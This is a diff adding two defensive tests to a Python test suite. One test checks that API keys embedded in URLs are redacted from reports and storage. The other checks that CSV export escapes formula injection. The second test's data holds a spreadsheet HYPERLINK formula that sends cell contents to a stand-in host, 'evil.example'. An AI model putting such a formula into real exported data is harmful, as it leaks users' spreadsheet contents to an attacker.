@@ -3,18 +3,27 @@
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
+import json
 
 import duckdb
 import pytest
 
+from egur_core.app.results_data import problems_csv
 from egur_core.app.services import build_client, build_tools
+from egur_core.evals.run_records import run_report
+from egur_core.llm import simulated_settings
 from egur_core.llm.json_repair import extract_json
+from egur_core.memory.database import MemoryFile, close_idle_files
 from egur_core.memory.ops import AddNote
-from egur_core.memory.records import ExecutionRecord
+from egur_core.memory.records import ExecutionRecord, ProblemResult
 from egur_core.memory.store import MemoryStore
+from egur_core.reasoner.loop import LoopConfig
 from egur_core.runtime.engine import Runtime
 from egur_core.strategy.model import Strategy
 from tests.fakes.openai_server import FakeOpenAIServer, settings_for
+from tests.reasoner.loop_runner import run_loop
 
 pytestmark = pytest.mark.timeout(120)
 
@@ -51,3 +60,29 @@ def test_an_escaped_lone_surrogate_in_a_json_reply_becomes_a_storable_note(store
     op = extract_json('{"op": "add_note", "text": "Mind the \\ud83d trap"}')
     store.apply(AddNote(text=op["text"]), "consolidator")
     assert store.list_notes()["text"][0] == "Mind the \ufffd trap"
+
+
+URL_KEY = "sk-in-the-url-DO-NOT-LEAK-77"
+
+
+def test_a_key_inside_the_base_url_is_redacted_wherever_it_is_stored_or_shown(tmp_path):
+    settings = simulated_settings(seed=1)
+    settings.endpoints["default"].base_url = f"http://user:{URL_KEY}@gateway.local/v1?api-key={URL_KEY}"
+    memory = MemoryFile(tmp_path / "m.duckdb", linger_s=0)
+    run_id, _ = run_loop(memory, LoopConfig(benchmark="sat3", n=1, k=1, seed=1), settings=settings)
+    with memory.session() as store:
+        report = json.dumps(run_report(store, run_id), default=str)
+    close_idle_files()
+    assert URL_KEY not in report and "http://user:***@gateway.local" not in report
+    assert "http://***@gateway.local/v1?api-key=***" in report
+    assert URL_KEY.encode() not in (tmp_path / "m.duckdb").read_bytes()
+    assert URL_KEY not in json.dumps(settings.safe_dict())
+
+
+def test_a_formula_an_answer_starts_with_is_escaped_in_the_per_problem_csv(store):
+    run_id = store.create_run(benchmark="sat3", n_problems=2)
+    for idx, answer in enumerate(['=HYPERLINK("http://evil.example/?leak="&A1, "click")', "@SUM(1+1)"]):
+        store.start_problem(run_id, idx, f"p{idx}", "text", None, "sat3")
+        store.finish_problem(ProblemResult(run_id=run_id, idx=idx, answer=answer, correct=False))
+    rows = list(csv.DictReader(io.StringIO(problems_csv(store, [run_id]).decode())))
+    assert [r["answer"][:2] for r in rows] == ["'=", "'@"]
